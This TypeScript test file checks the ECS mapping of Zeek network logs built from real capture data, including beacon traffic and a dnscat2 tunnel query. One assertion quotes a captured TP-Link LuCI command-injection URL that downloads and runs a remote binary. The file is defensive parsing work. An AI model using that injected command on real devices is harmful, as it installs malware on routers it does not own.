// ECS fields of every mapped Zeek log (conn, dns, http, ssl, files, x509, notice, weird) and of
// generic logs, asserted on real lines of the shared data (RITA test data, WRCCDC 2018).
import assert from 'node:assert/strict';
import { basename } from 'node:path';
import { test } from 'node:test';
import type { EventDraft } from '../../core/index.ts';
import { needsShared, readLines, shared } from '../../../test/support/data.ts';
import { ParseFailure, type LineParser } from '../parser.ts';
import { ZeekJsonParser } from './json.ts';
import { ZeekTsvParser } from './tsv.ts';

const RITA = ['zeek', 'rita', 'test_data'];
const skip = needsShared(...RITA) || needsShared('zeek', 'zed-wrccdc');

/** The event of the record with `uid` (or the n-th event) in a real log file. */
function eventOf(parts: string[], uid: string | number): EventDraft {
  const path = shared(...parts);
  const lines = readLines(path);
  const parser: LineParser =
    lines[0]?.startsWith('{') === true
      ? new ZeekJsonParser(basename(path))
      : new ZeekTsvParser(basename(path));
  let index = 0;
  for (const [number, line] of lines.entries()) {
    const outcome = parser.parseLine(line, number + 1);
    if (outcome === undefined || outcome instanceof ParseFailure) continue;
    if (typeof uid === 'number' ? index++ === uid : outcome.zeek?.session_id === uid) {
      return outcome;
    }
  }
  throw new Error(`no record ${uid} in ${path}`);
}

const HOUR = (log: string, hour: string) => [
  ...RITA,
  'missing_host',
  '2024-04-19',
  `${log}.${hour}:00:00-${String(Number(hour) + 1).padStart(2, '0')}:00:00.log.gz`,
];

test('conn: the planted beacon connection', { skip }, () => {
  const conn = eventOf(HOUR('conn', '00'), 'CF3oHg33SfE13s6jp7');
  assert.equal(conn['@timestamp'], '2024-04-19T00:04:09.785Z');
  assert.deepEqual(conn.event, {
    kind: 'event',
    dataset: 'zeek.conn',
    module: 'zeek',
    original: conn.event.original,
    category: ['network'],
    type: ['connection'],
    duration: 104_355_000,
    outcome: 'success',
  });
  assert.deepEqual(conn.source, { ip: '73.54.23.243', port: 60916, bytes: 80, packets: 5 });
  assert.deepEqual(conn.destination, { ip: '64.225.56.201', port: 80, bytes: 327, packets: 5 });
  assert.deepEqual(conn.network, {
    transport: 'tcp',
    protocol: 'http',
    bytes: 407,
    packets: 10,
    direction: 'inbound',
  });
  assert.deepEqual(conn.observer, { type: 'sensor', product: 'zeek', name: 'worker-eth0-1' });
  assert.deepEqual(conn.zeek, {
    session_id: 'CF3oHg33SfE13s6jp7',
    conn: {
      service: 'http',
      state: 'SF',
      local_orig: false,
      local_resp: true,
      missed_bytes: 0,
      history: 'ShADadfF',
      orig_ip_bytes: 292,
      resp_ip_bytes: 539,
    },
  });
});

test('conn: a rejected connection is a failure with zero bytes', { skip }, () => {
  const conn = eventOf(HOUR('conn', '00'), 'CNXhaRVWJ4tds4JM3');
  assert.equal(conn.event.outcome, 'failure');
  assert.equal((conn.zeek?.conn as { state: string }).state, 'REJ');
  assert.deepEqual(conn.network, { transport: 'tcp', bytes: 0, packets: 2, direction: 'inbound' });
});

test('dns: answers with TTLs, resolved IPs, flags', { skip }, () => {
  const dns = eventOf(['zeek', 'zed-wrccdc', 'dns.log.gz'], 0);
  assert.equal(dns['@timestamp'], '2018-03-24T17:15:20.866Z');
  assert.deepEqual(dns.dns, {
    type: 'answer',
    id: '36329',
    response_code: 'NOERROR',
    header_flags: ['RD', 'RA'],
    question: { name: 'ise.wrccdc.org', type: 'A', class: 'C_INTERNET' },
    answers: [
      { data: 'ise.wrccdc.cpp.edu', ttl: 2230 },
      { data: '134.71.3.16', ttl: 41830 },
    ],
    resolved_ip: ['134.71.3.16'],
  });
  assert.deepEqual(dns.network, { transport: 'udp', protocol: 'dns' });
  assert.equal(dns.event.outcome, 'success');
  assert.deepEqual(dns.zeek?.dns, {
    rtt: 0.00087,
    qclass: 1,
    qtype: 1,
    rcode: 0,
    Z: 0,
    rejected: false,
  });
});

test('dns (JSON): the dnscat2 tunnel query', { skip }, () => {
  const dns = eventOf([...RITA, 'json_with_all_fields', 'dns.log'], 'CVvreZ2AGtqjnP3nnl');
  assert.equal(dns.event.dataset, 'zeek.dns');
  assert.deepEqual(dns.dns?.question, {
    name: '6dde0175375169c68f.dnsc.r-1x.com',
    type: 'TXT',
    class: 'C_INTERNET',
  });
  assert.deepEqual(dns.dns?.answers, [{ data: 'TXT 18 302f017537c68f5169', ttl: 60 }]);
  assert.equal(dns.dns?.resolved_ip, undefined);
});

test('http: the beacon request with a blank Host header', { skip }, () => {
  const http = eventOf(HOUR('http', '00'), 'CF3oHg33SfE13s6jp7');
  assert.deepEqual(http.event.category, ['network', 'web']);
  assert.equal(http.event.outcome, 'failure');
  assert.deepEqual(http.url, { original: '/', path: '/', port: 80 });
  assert.deepEqual(http.http, {
    request: { method: 'GET', body: { bytes: 0 } },
    response: { status_code: 400, body: { bytes: 166 }, mime_type: 'text/html' },
    version: '1.1',
  });
  assert.deepEqual(http.user_agent, { original: 'Modzilla/0.0001 (Atari 7800)' });
  assert.equal(http.destination?.domain, undefined);
});

test('http (JSON): host, referrer, user name; the password is not copied', { skip }, () => {
  const http = eventOf([...RITA, 'json_with_all_fields', 'http.log'], 'C0axf33LGfd44hjHt4');
  assert.equal(http.url?.domain, 'www.alibaba.com');
  assert.equal(http.destination?.domain, 'www.alibaba.com');
  assert.equal(http.url?.path, '/detail/ajax/queryIpAjax.do');
  assert.equal(http.http?.request?.referrer, 'http://www.alibaba.com/');
  assert.equal(http.http?.response?.mime_type, 'text/plain');
  assert.deepEqual(http.user, { name: 'johnsmith123' });
  assert.equal((http.zeek?.http as { password_seen: boolean }).password_seen, true);
  assert.equal(JSON.stringify({ ...http, event: {} }).includes('"password"'), false);
});

test('http: a Host header with a port, an address as host, a proxy CONNECT', { skip }, () => {
  const exploit = eventOf(HOUR('http', '01'), 'ClB7vk1dYfZo4Orski');
  assert.equal(exploit.url?.domain, '64.225.56.201');
  assert.equal(exploit.url?.port, 80);
  assert.equal(exploit.destination?.domain, undefined, 'an address is not a domain');
  assert.equal(
    exploit.url?.full,
    'http://64.225.56.201/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd+/tmp;+rm+-rf+shk;+wget+http://103.163.214.97/shk;+chmod+777+shk;+./shk+tplink;+rm+-rf+shk)',
  );
  const connect = eventOf(
    [...RITA, 'proxy_rolling', 'http.16:00:00-17:00:00.log.gz'],
    'CbvIrOFUxDi85CQi',
  );
  assert.equal(connect.http?.request?.method, 'CONNECT');
  assert.deepEqual(connect.url, {
    domain: 'safebrowsing.googleapis.com',
    original: 'safebrowsing.googleapis.com:443',
    path: 'safebrowsing.googleapis.com:443',
    port: 443,
  });
  assert.deepEqual(connect.destination, {
    ip: '10.0.0.238',
    port: 3128,
    domain: 'safebrowsing.googleapis.com',
  });
});

test('ssl: version, cipher, SNI as server name and destination domain, JA3/JA3S', { skip }, () => {
  const ssl = eventOf(
    [...RITA, 'proxy_rolling', 'ssl.15:00:00-16:00:00.log.gz'],
    'CXiEAy2KnBSRj7NpSa',
  );
  assert.deepEqual(ssl.tls, {
    version: '1.2',
    version_protocol: 'tls',
    cipher: 'TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256',
    curve: 'secp256r1',
    established: true,
    resumed: false,
    client: { server_name: 'motd.ubuntu.com', ja3: 'fb4726d465c5f28b84cd6d14cedd13a7' },
    server: {
      ja3s: '389ed42c02ebecc32e73aa31def07e14',
      hash: { sha256: 'ee18ffe1230ec2dc9ca4d310b37bd5030de5594ba45581e8495e503858e38c28' },
    },
  });
  assert.equal(ssl.destination?.domain, 'motd.ubuntu.com');
  assert.equal(ssl.source?.ip, '2601:19e:8200:91e0::1ec7');
  assert.deepEqual(ssl.network, { transport: 'tcp', protocol: 'tls' });
  assert.equal((ssl.zeek?.ssl as { validation_status: string }).validation_status, 'ok');
});

test('ssl (JSON, older fields): certificate subject and issuer', { skip }, () => {
  const ssl = eventOf([...RITA, 'json_with_all_fields', 'ssl.log'], 'C2nyFQkh6oijTV5hd');
  assert.equal(ssl.tls?.next_protocol, 'h2');
  assert.equal(
    ssl.tls?.server?.issuer,
    'CN=COMODO RSA Organization Validation Secure Server CA,O=COMODO CA Limited,L=Salford,ST=Greater Manchester,C=GB',
  );
  assert.equal(ssl.tls?.client?.ja3, '10ee8d30a5d01c042afd7b2b205facc4');
});

test('x509: certificate as tls.server.x509 with its fingerprint as the hash', { skip }, () => {
  const x509 = eventOf([...RITA, 'proxy_rolling', 'x509.15:00:00-16:00:00.log.gz'], 0);
  assert.equal(x509.event.dataset, 'zeek.x509');
  assert.deepEqual(x509.tls?.server, {
    x509: {
      version_number: '3',
      serial_number: '04A1AFAEDF17C691522113D4CD530A56E507',
      subject: { distinguished_name: 'CN=motd.ubuntu.com', common_name: ['motd.ubuntu.com'] },
      issuer: {
        distinguished_name: "CN=R3,O=Let's Encrypt,C=US",
        common_name: ['R3'],
      },
      not_before: '2024-03-07T14:27:55.000Z',
      not_after: '2024-06-05T13:27:54.000Z',
      public_key_algorithm: 'rsaEncryption',
      signature_algorithm: 'sha256WithRSAEncryption',
      public_key_size: 2048,
      public_key_exponent: 65537,
      alternative_names: ['motd.ubuntu.com'],
    },
    subject: 'CN=motd.ubuntu.com',
    issuer: "CN=R3,O=Let's Encrypt,C=US",
    not_before: '2024-03-07T14:27:55.000Z',
    not_after: '2024-06-05T13:27:54.000Z',
    hash: { sha256: 'ee18ffe1230ec2dc9ca4d310b37bd5030de5594ba45581e8495e503858e38c28' },
  });
  assert.deepEqual(x509.zeek, {
    x509: {
      certificate: { key_type: 'rsa' },
      san: { dns: ['motd.ubuntu.com'] },
      basic_constraints: { ca: false },
      host_cert: true,
      client_cert: false,
    },
  });
});

test('files (before Zeek 5.1): a download, so the receiver is the source', { skip }, () => {
  const file = eventOf(HOUR('files', '00'), 'C3Qzmxwo2SNsHykD5');
  assert.deepEqual(file.event.category, ['file']);
  assert.deepEqual(file.source, { ip: '172.71.146.192' });
  assert.deepEqual(file.destination, { ip: '64.225.56.201' });
  assert.deepEqual(file.file, { mime_type: 'text/html', size: 162 });
  const section = file.zeek?.files as Record<string, unknown>;
  assert.equal(section.fuid, 'FJcMWZ2muxj40GVJTl');
  assert.deepEqual(section.tx_hosts, ['64.225.56.201']);
});

test('notice: an alert named by its note, with \\\\ unescaped in the DN', { skip }, () => {
  const notice = eventOf(['zeek', 'zed-wrccdc', 'notice.log.gz'], 'C0oPaB143MafKdsHTl');
  assert.equal(notice.event.kind, 'alert');
  assert.deepEqual(notice.event.category, ['intrusion_detection']);
  assert.deepEqual(notice.rule, { name: 'SSL::Invalid_Server_Cert' });
  assert.equal(notice.event.action, 'SSL::Invalid_Server_Cert');
  assert.equal(
    notice.message,
    'SSL certificate validation failed with (unable to get local issuer certificate)',
  );
  assert.deepEqual(notice.destination, { ip: '10.47.8.200', port: 443 });
  const section = notice.zeek?.notice as { sub: string; suppress_for: number };
  assert.match(section.sub, /,O=VMware\\, Inc,L=Palo Alto,/);
  assert.equal(section.suppress_for, 3600);
});

test('notice without a connection takes no addresses; weird keeps its name', { skip }, () => {
  const loss = eventOf(HOUR('notice', '03'), 0);
  assert.equal(loss.rule?.name, 'CaptureLoss::Too_Much_Loss');
  assert.equal(loss.source, undefined);
  assert.equal(loss.zeek?.session_id, undefined);
  const weird = eventOf(['zeek', 'zed-wrccdc', 'weird.log.gz'], 'CZRT6d24wYO0w7ZcM3');
  assert.equal(weird.event.kind, 'event');
  assert.deepEqual(weird.event.category, ['network']);
  assert.equal(weird.event.action, 'above_hole_data_without_any_acks');
  assert.deepEqual(weird.zeek?.weird, {
    name: 'above_hole_data_without_any_acks',
    notice: false,
    peer: 'zeek',
    source: 'TCP',
  });
});

test('generic logs: addresses from id.*, every other field under zeek.<log>', { skip }, () => {
  const ntp = eventOf(HOUR('ntp', '00'), 'CxGZCF4qiCtQrlVmw5');
  assert.equal(ntp.event.dataset, 'zeek.ntp');
  assert.deepEqual(ntp.network, { protocol: 'ntp' });
  assert.deepEqual(ntp.destination, { ip: '91.189.91.157', port: 123 });
  // The client's request: a reference id of four NUL bytes, written as \x00\x00\x00\x00.
  assert.equal((ntp.zeek?.ntp as { ref_id: string }).ref_id, '\u0000\u0000\u0000\u0000');
  assert.equal((ntp.zeek?.ntp as { xmt_time: number }).xmt_time, 1713485585.060141);
  const software = eventOf([...RITA, 'proxy', 'software.log'], 1);
  assert.deepEqual(software.zeek, {
    software: {
      host: '10.136.0.18',
      software_type: 'HTTP::BROWSER',
      name: 'curl',
      version: { major: 7, minor: 58, minor2: 0 },
      unparsed_version: 'curl/7.58.0',
    },
  });
  const script = eventOf([...RITA, 'proxy', 'loaded_scripts.log'], 0);
  assert.equal(script['@timestamp'], '2023-01-05T18:51:06.000Z', 'no ts: the #open time');
});
